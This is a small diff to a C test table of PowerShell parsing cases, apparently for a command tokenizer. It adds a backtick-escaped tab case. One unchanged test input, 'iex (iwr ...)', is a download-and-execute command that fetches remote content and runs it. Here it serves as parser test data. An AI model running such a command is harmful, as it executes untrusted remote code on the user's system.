@@ -19,6 +19,7 @@ static const struct {
     { "A <# b; c #> d", "A d" },
     { "A 'b''c' @'\nd \"e\n'@ f", "A b'c <d \"e> f" },
     { "A @\"\n\"@ @\"\r\nb $(C)\r\n\"@", "A <> <b $(C)> / {u}C" },
+    { "A `\tb", "A <\tb>" },
     { "A 'b", "A b (cut)" },
     { "A @'\nb", "A b (cut)" },
     { "iex (iwr 'https://a/b' -UseBasicParsing)",
